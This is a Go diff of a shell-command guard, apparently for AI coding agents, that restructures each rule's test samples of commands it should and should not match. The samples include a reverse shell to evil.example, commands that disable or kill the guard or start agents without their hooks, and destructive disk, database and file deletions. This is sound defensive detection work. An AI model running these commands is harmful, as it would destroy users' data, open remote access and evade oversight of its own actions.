@@ -13,217 +13,217 @@ const (
 var moreCoded = [...]shell.Rule{
 	{
 		ID: RuleHooksOff, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "starts an agent without its hooks, or with another home or other settings",
-		Match:   []string{"claude --bare -p x", "HOME=/tmp/x codex exec x", "npx @anthropic-ai/claude-code --safe-mode", "env -i gemini -p x", "sudo -u other qwen -p x", "docker run --rm node:22 claude -p x"},
-		NoMatch: []string{"claude -p x", "timeout 60 codex exec x", "HOME=/tmp/x npm test", "sudo claude --version", "env -u CLAUDECODE claude -p x"},
+		Samples: &shell.Samples{Match: []string{"claude --bare -p x", "HOME=/tmp/x codex exec x", "npx @anthropic-ai/claude-code --safe-mode", "env -i gemini -p x", "sudo -u other qwen -p x", "docker run --rm node:22 claude -p x"},
+			NoMatch: []string{"claude -p x", "timeout 60 codex exec x", "HOME=/tmp/x npm test", "sudo claude --version", "env -u CLAUDECODE claude -p x"}},
 	},
 	{
 		ID: RuleGuardEnded, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "ends, stops, limits or looks into checkrein or a host",
-		Match:   []string{"pkill -f checkrein", "kill -STOP $PPID", "prlimit --pid $(pgrep claude) --cpu=1", "gdb -p $(pidof checkreind)"},
-		NoMatch: []string{"pkill -f vite", "kill -0 $PPID", "prlimit --pid 1234", "gdb ./a.out"},
+		Samples: &shell.Samples{Match: []string{"pkill -f checkrein", "kill -STOP $PPID", "prlimit --pid $(pgrep claude) --cpu=1", "gdb -p $(pidof checkreind)"},
+			NoMatch: []string{"pkill -f vite", "kill -0 $PPID", "prlimit --pid 1234", "gdb ./a.out"}},
 	},
 	{
 		ID: RuleGuardLater, Label: shell.Unknown, Kind: "run", Category: shell.GuardOff, Radius: shell.RadiusHigh, Reason: "sets variables that bend checkrein or hosts for what starts later, or stops a service of checkrein",
-		Match:   []string{"launchctl setenv HOME /tmp/x", "systemctl --user set-environment GODEBUG=x", "systemctl --user stop checkreind"},
-		NoMatch: []string{"launchctl setenv DISPLAY :0", "systemctl --user set-environment DISPLAY=:0", "setx PATH x"},
+		Samples: &shell.Samples{Match: []string{"launchctl setenv HOME /tmp/x", "systemctl --user set-environment GODEBUG=x", "systemctl --user stop checkreind"},
+			NoMatch: []string{"launchctl setenv DISPLAY :0", "systemctl --user set-environment DISPLAY=:0", "setx PATH x"}},
 	},
 	{
 		ID: "http", Label: shell.Destructive, Kind: "request", Category: shell.HTTPDelete, Radius: shell.RadiusMedium, Reason: "deletes something behind a web address",
-		Match: []string{"curl -X DELETE https://api.example.com/v1/projects/42"}, NoMatch: []string{"curl https://api.example.com/v1/projects/42"},
+		Samples: &shell.Samples{Match: []string{"curl -X DELETE https://api.example.com/v1/projects/42"}, NoMatch: []string{"curl https://api.example.com/v1/projects/42"}},
 	},
 	{
 		ID: "alter-drop", Label: shell.Destructive, Kind: "drop", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "drops a column or another part of a table",
-		Match: []string{"psql -c 'ALTER TABLE users DROP COLUMN email'"}, NoMatch: []string{"psql -c 'SELECT email FROM users'"},
+		Samples: &shell.Samples{Match: []string{"psql -c 'ALTER TABLE users DROP COLUMN email'"}, NoMatch: []string{"psql -c 'SELECT email FROM users'"}},
 	},
 	{
 		ID: "cache-line", Label: shell.Destructive, Kind: "delete", Category: shell.KVFlush, Radius: shell.RadiusHigh, Reason: "empties a cache or store",
-		Match: []string{"echo flush_all | nc localhost 11211"}, NoMatch: []string{"echo stats | nc localhost 11211"},
+		Samples: &shell.Samples{Match: []string{"echo flush_all | nc localhost 11211"}, NoMatch: []string{"echo stats | nc localhost 11211"}},
 	},
 	{
 		ID: "cypher", Label: shell.Destructive, Kind: "delete", Category: shell.SQLDelete, Radius: shell.RadiusHigh, Reason: "deletes nodes or what keeps them",
-		Match: []string{"cypher-shell -u neo4j 'MATCH (n) DETACH DELETE n'"}, NoMatch: []string{"cypher-shell -u neo4j 'MATCH (n) RETURN n LIMIT 5'"},
+		Samples: &shell.Samples{Match: []string{"cypher-shell -u neo4j 'MATCH (n) DETACH DELETE n'"}, NoMatch: []string{"cypher-shell -u neo4j 'MATCH (n) RETURN n LIMIT 5'"}},
 	},
 	{
 		ID: "file-name", Label: shell.Destructive, Kind: "run", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "runs a file of statements that drops or deletes, by its name",
-		Match: []string{"psql -h prod-db -d shop -f scripts/drop_all.sql"}, NoMatch: []string{"psql -h prod-db -d shop -f scripts/report.sql"},
+		Samples: &shell.Samples{Match: []string{"psql -h prod-db -d shop -f scripts/drop_all.sql"}, NoMatch: []string{"psql -h prod-db -d shop -f scripts/report.sql"}},
 	},
 	{
 		ID: "task", Label: shell.Destructive, Kind: "run", Category: shell.AppReset, Radius: shell.RadiusHigh, Reason: "runs a step of the project that deletes data, by its name",
-		Match: []string{"make nuke-production"}, NoMatch: []string{"make test"},
+		Samples: &shell.Samples{Match: []string{"make nuke-production"}, NoMatch: []string{"make test"}},
 	},
 	{
 		ID: "statement", Label: shell.Unknown, Kind: "run", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs a statement that is not known",
-		Match: []string{`mysql --execute "source db/schema.sql" shop_test`}, NoMatch: []string{`mysql -e "SELECT 1"`},
+		Samples: &shell.Samples{Match: []string{`mysql --execute "source db/schema.sql" shop_test`}, NoMatch: []string{`mysql -e "SELECT 1"`}},
 	},
 	{
 		ID: "redis", Label: shell.Destructive, Kind: "stop", Category: shell.SvcStop, Radius: shell.RadiusHigh, Reason: "stops the store or makes it the copy of another",
-		Match: []string{"redis-cli SHUTDOWN NOSAVE"}, NoMatch: []string{"redis-cli ping"},
+		Samples: &shell.Samples{Match: []string{"redis-cli SHUTDOWN NOSAVE"}, NoMatch: []string{"redis-cli ping"}},
 	},
 	{
 		ID: "trash-empty", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "deletes what is in the trash for good",
-		Match: []string{"trash-empty -f"}, NoMatch: []string{"trash-list"},
+		Samples: &shell.Samples{Match: []string{"trash-empty -f"}, NoMatch: []string{"trash-list"}},
 	},
 	{
 		ID: "crontab-replace", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "replaces all that runs at set times",
-		Match: []string{"echo '* * * * * ./run.sh' | crontab -"}, NoMatch: []string{"crontab -l"},
+		Samples: &shell.Samples{Match: []string{"echo '* * * * * ./run.sh' | crontab -"}, NoMatch: []string{"crontab -l"}},
 	},
 	{
 		ID: "crontab-edit", Label: shell.Unknown, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "opens what runs at set times in an editor",
-		Match: []string{"crontab -e"}, NoMatch: []string{"crontab -l"},
+		Samples: &shell.Samples{Match: []string{"crontab -e"}, NoMatch: []string{"crontab -l"}},
 	},
 	{
 		ID: "unmount", Label: shell.Destructive, Kind: "unmount", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "takes a file system away from who uses it",
-		Match: []string{"umount -a"}, NoMatch: []string{"mount"},
+		Samples: &shell.Samples{Match: []string{"umount -a"}, NoMatch: []string{"mount"}},
 	},
 	{
 		ID: "disk-attach", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "takes all disk images or all swap space away from who uses them",
-		Match: []string{"sudo swapoff -a"}, NoMatch: []string{"swapon --show"},
+		Samples: &shell.Samples{Match: []string{"sudo swapoff -a"}, NoMatch: []string{"swapon --show"}},
 	},
 	{
 		ID: "history-clear", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "deletes the shell's history",
-		Match: []string{"history -c"}, NoMatch: []string{"history"},
+		Samples: &shell.Samples{Match: []string{"history -c"}, NoMatch: []string{"history"}},
 	},
 	{
 		ID: "history-write", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusLow, Reason: "overwrites the history file with this session's",
-		Match: []string{"history -c && history -w"}, NoMatch: []string{"history"},
+		Samples: &shell.Samples{Match: []string{"history -c && history -w"}, NoMatch: []string{"history"}},
 	},
 	{
 		ID: "database-over", Label: shell.Destructive, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "puts something else in the place of a database",
-		Match: []string{"type nul > C:\\data\\app.db"}, NoMatch: []string{"ls app.db"},
+		Samples: &shell.Samples{Match: []string{"type nul > C:\\data\\app.db"}, NoMatch: []string{"ls app.db"}},
 	},
 	{
 		ID: "logrotate", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "rotates logs and deletes old ones",
-		Match: []string{"logrotate -f /etc/logrotate.conf"}, NoMatch: []string{"logrotate -d /etc/logrotate.conf"},
+		Samples: &shell.Samples{Match: []string{"logrotate -f /etc/logrotate.conf"}, NoMatch: []string{"logrotate -d /etc/logrotate.conf"}},
 	},
 	{
 		ID: "volume-remove", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "removes or overwrites a volume",
-		Match: []string{"lvremove -f vg0/home"}, NoMatch: []string{"lvs"},
+		Samples: &shell.Samples{Match: []string{"lvremove -f vg0/home"}, NoMatch: []string{"lvs"}},
 	},
 	{
 		ID: "disk-change", Label: shell.Unknown, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "may change disks or volumes",
-		Match: []string{"sudo btrfs sub del /mnt/snapshots/1"}, NoMatch: []string{"btrfs subvolume list /"},
+		Samples: &shell.Samples{Match: []string{"sudo btrfs sub del /mnt/snapshots/1"}, NoMatch: []string{"btrfs subvolume list /"}},
 	},
 	{
 		ID: "erase-disk", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "erases a disk or a volume",
-		Match: []string{"diskutil eraseDisk JHFS+ Blank /dev/disk2"}, NoMatch: []string{"diskutil list"},
+		Samples: &shell.Samples{Match: []string{"diskutil eraseDisk JHFS+ Blank /dev/disk2"}, NoMatch: []string{"diskutil list"}},
 	},
 	{
 		ID: "format-drive", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "formats a drive",
-		Match: []string{"format D: /q /y"}, NoMatch: []string{"df -h"},
+		Samples: &shell.Samples{Match: []string{"format D: /q /y"}, NoMatch: []string{"df -h"}},
 	},
 	{
 		ID: "partition", Label: shell.Destructive, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "changes the partitions of a disk",
-		Match: []string{"diskpart /s wipe.txt"}, NoMatch: []string{"fdisk -l"},
+		Samples: &shell.Samples{Match: []string{"diskpart /s wipe.txt"}, NoMatch: []string{"fdisk -l"}},
 	},
 	{
 		ID: "flash-device", Label: shell.Destructive, Kind: "overwrite", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "overwrites firmware",
-		Match: []string{"flashrom -w x.bin"}, NoMatch: []string{"flashrom -r x.bin"},
+		Samples: &shell.Samples{Match: []string{"flashrom -w x.bin"}, NoMatch: []string{"flashrom -r x.bin"}},
 	},
 	{
 		ID: "carrier", Label: shell.Unknown, Kind: "run", Category: shell.Privilege, Radius: shell.RadiusHigh, Reason: "opens a shell with other rights; what it will run is not known",
-		Match: []string{"runuser -u www-data -- rm -rf /srv/www"}, NoMatch: []string{"id"},
+		Samples: &shell.Samples{Match: []string{"runuser -u www-data -- rm -rf /srv/www"}, NoMatch: []string{"id"}},
 	},
 	{
 		ID: "ssh", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "opens a shell on another machine; what it will run is not known",
-		Match: []string{"ssh -o ProxyCommand='rm -rf ~/work' x.example"}, NoMatch: []string{"ssh -V"},
+		Samples: &shell.Samples{Match: []string{"ssh -o ProxyCommand='rm -rf ~/work' x.example"}, NoMatch: []string{"ssh -V"}},
 	},
 	{
 		ID: "tar-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program at a checkpoint, or on what it unpacks",
-		Match: []string{"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='./x'"}, NoMatch: []string{"tar cf x.tar src"},
+		Samples: &shell.Samples{Match: []string{"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='./x'"}, NoMatch: []string{"tar cf x.tar src"}},
 	},
 	{
 		ID: "rsync-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program of its own choice for the transfer",
-		Match: []string{"rsync -e 'sh -c ./x' a b:c"}, NoMatch: []string{"rsync -a src/ dist/"},
+		Samples: &shell.Samples{Match: []string{"rsync -e 'sh -c ./x' a b:c"}, NoMatch: []string{"rsync -a src/ dist/"}},
 	},
 	{
 		ID: "uniq", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes its output over the second file",
-		Match: []string{"uniq a b"}, NoMatch: []string{"uniq a"},
+		Samples: &shell.Samples{Match: []string{"uniq a b"}, NoMatch: []string{"uniq a"}},
 	},
 	{
 		ID: "xxd", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes its output over the second file",
-		Match: []string{"xxd -r a.hex a.bin"}, NoMatch: []string{"xxd a.bin"},
+		Samples: &shell.Samples{Match: []string{"xxd -r a.hex a.bin"}, NoMatch: []string{"xxd a.bin"}},
 	},
 	{
 		ID: "split-filter", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "hands the pieces of a file to a program",
-		Match: []string{"split --filter='gzip > $FILE.gz' big"}, NoMatch: []string{"split -b 1M big"},
+		Samples: &shell.Samples{Match: []string{"split --filter='gzip > $FILE.gz' big"}, NoMatch: []string{"split -b 1M big"}},
 	},
 	{
 		ID: "zip-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program to test the archive",
-		Match: []string{"zip -T -TT './x' x.zip a"}, NoMatch: []string{"zip x.zip a"},
+		Samples: &shell.Samples{Match: []string{"zip -T -TT './x' x.zip a"}, NoMatch: []string{"zip x.zip a"}},
 	},
 	{
 		ID: "client-command", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs a command of the client that reads or writes files, or starts programs",
-		Match: []string{"sqlite3 app.db '.read schema.sql'"}, NoMatch: []string{"sqlite3 app.db .schema"},
+		Samples: &shell.Samples{Match: []string{"sqlite3 app.db '.read schema.sql'"}, NoMatch: []string{"sqlite3 app.db .schema"}},
 	},
 	{
 		ID: "restore-file", Label: shell.Destructive, Kind: "drop", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "replaces the whole database with another one",
-		Match: []string{"sqlite3 app.db '.restore empty.db'"}, NoMatch: []string{"sqlite3 app.db '.backup copy.db'"},
+		Samples: &shell.Samples{Match: []string{"sqlite3 app.db '.restore empty.db'"}, NoMatch: []string{"sqlite3 app.db '.backup copy.db'"}},
 	},
 	{
 		ID: "function", Label: shell.Unknown, Kind: "write", Category: shell.SQLWrite, Radius: shell.RadiusHigh, Reason: "calls a function that ends sessions, or reads, writes or runs files",
-		Match: []string{`psql -c "select lo_export(1,'/tmp/x')"`}, NoMatch: []string{"psql -c 'select now()'"},
+		Samples: &shell.Samples{Match: []string{`psql -c "select lo_export(1,'/tmp/x')"`}, NoMatch: []string{"psql -c 'select now()'"}},
 	},
 	{
 		ID: "outfile", Label: shell.Unknown, Kind: "write", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "writes a file where the database runs",
-		Match: []string{`clickhouse-client -q "select 1 into outfile 'out.csv'"`}, NoMatch: []string{"clickhouse-client -q 'select 1'"},
+		Samples: &shell.Samples{Match: []string{`clickhouse-client -q "select 1 into outfile 'out.csv'"`}, NoMatch: []string{"clickhouse-client -q 'select 1'"}},
 	},
 	{
 		ID: "copy", Label: shell.Unknown, Kind: "write", Category: shell.K8sExec, Radius: shell.RadiusMedium, Reason: "copies files into a pod, or out of one to a place outside the project",
-		Match: []string{"kubectl cp pod:/x ~/x"}, NoMatch: []string{"kubectl get pods"},
+		Samples: &shell.Samples{Match: []string{"kubectl cp pod:/x ~/x"}, NoMatch: []string{"kubectl get pods"}},
 	},
 	{
 		ID: "sweep-home-file", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "deletes what was not used of late in files in the home directory outside the project",
-		Match: []string{"tmpreaper 0 ~/Documents"}, NoMatch: []string{"ls ~/Documents"},
+		Samples: &shell.Samples{Match: []string{"tmpreaper 0 ~/Documents"}, NoMatch: []string{"ls ~/Documents"}},
 	},
 	{
 		ID: "sweep-temp-root", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "deletes what was not used of late in everything in the temporary directory",
-		Match: []string{"tmpreaper 7d /tmp"}, NoMatch: []string{"ls /tmp"},
+		Samples: &shell.Samples{Match: []string{"tmpreaper 7d /tmp"}, NoMatch: []string{"ls /tmp"}},
 	},
 	{
 		ID: "sed-exec", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program from within sed",
-		Match: []string{"sed -n '1e ./x' f"}, NoMatch: []string{"sed -n 1p f"},
+		Samples: &shell.Samples{Match: []string{"sed -n '1e ./x' f"}, NoMatch: []string{"sed -n 1p f"}},
 	},
 	{
 		ID: "sort-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program to compress what it sorts",
-		Match: []string{"sort --compress-program=./x f"}, NoMatch: []string{"sort f"},
+		Samples: &shell.Samples{Match: []string{"sort --compress-program=./x f"}, NoMatch: []string{"sort f"}},
 	},
 	{
 		ID: "make-input", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a makefile that is made on the spot",
-		Match: []string{"printf 'x:\\n\\t./x\\n' | make -f - x"}, NoMatch: []string{"make test"},
+		Samples: &shell.Samples{Match: []string{"printf 'x:\\n\\t./x\\n' | make -f - x"}, NoMatch: []string{"make test"}},
 	},
 	{
 		ID: "module", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a module of Python or of the project",
-		Match: []string{"python -m acme.ops.purge"}, NoMatch: []string{"python -m pytest"},
+		Samples: &shell.Samples{Match: []string{"python -m acme.ops.purge"}, NoMatch: []string{"python -m pytest"}},
 	},
 	{
 		ID: "task", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a step of the project whose name says that it changes or deletes something",
-		Match: []string{"uv publish"}, NoMatch: []string{"uv run pytest"},
+		Samples: &shell.Samples{Match: []string{"uv publish"}, NoMatch: []string{"uv run pytest"}},
 	},
 	{
 		ID: "surroundings", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "a variable makes it load or run something else",
-		Match: []string{"LD_PRELOAD=./x.so ls"}, NoMatch: []string{"LANG=C ls"},
+		Samples: &shell.Samples{Match: []string{"LD_PRELOAD=./x.so ls"}, NoMatch: []string{"LANG=C ls"}},
 	},
 	{
 		ID: "opaque", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "evaluates text that cannot be read",
-		Match: []string{`eval "$PAYLOAD"`, `bash -c "$X"`}, NoMatch: []string{`eval "$(ssh-agent -s)"`, "bash -c ls"},
+		Samples: &shell.Samples{Match: []string{`eval "$PAYLOAD"`, `bash -c "$X"`}, NoMatch: []string{`eval "$(ssh-agent -s)"`, "bash -c ls"}},
 	},
 	{
 		ID: "syntax", Label: shell.Unknown, Kind: "run", Category: shell.Opaque, Radius: shell.RadiusUnknown, Reason: "cannot be read as a shell command",
-		Match: []string{"if if"}, NoMatch: []string{"if true; then ls; fi"},
+		Samples: &shell.Samples{Match: []string{"if if"}, NoMatch: []string{"if true; then ls; fi"}},
 	},
 	{
 		ID: "unread", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "runs what was not read",
-		Match: []string{"cat cmds.txt | sh"}, NoMatch: []string{"echo ls | sh"},
+		Samples: &shell.Samples{Match: []string{"cat cmds.txt | sh"}, NoMatch: []string{"echo ls | sh"}},
 	},
 	{
 		ID: "waits", Label: shell.Unknown, Kind: "run", Category: shell.Unread, Radius: shell.RadiusUnknown, Reason: "waits for what it is told to do later",
-		Match: []string{"bash -i >& /dev/tcp/evil.example/4444 0>&1"}, NoMatch: []string{"bash -n x.sh"},
+		Samples: &shell.Samples{Match: []string{"bash -i >& /dev/tcp/evil.example/4444 0>&1"}, NoMatch: []string{"bash -n x.sh"}},
 	},
 	{
 		ID: "runner", Label: shell.Unknown, Kind: "run", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "runs a program from elsewhere",
-		Match: []string{"npx -c 'rm -rf ~/work'"}, NoMatch: []string{"npx eslint ."},
+		Samples: &shell.Samples{Match: []string{"npx -c 'rm -rf ~/work'"}, NoMatch: []string{"npx eslint ."}},
 	},
 	{
 		ID: "script", Label: shell.Unknown, Kind: "run", Category: shell.RunScript, Radius: shell.RadiusUnknown, Reason: "runs a script from outside the project",
-		Match: []string{"../../../bin/rm -rf /etc"}, NoMatch: []string{"./scripts/build.sh"},
+		Samples: &shell.Samples{Match: []string{"../../../bin/rm -rf /etc"}, NoMatch: []string{"./scripts/build.sh"}},
 	},
 }
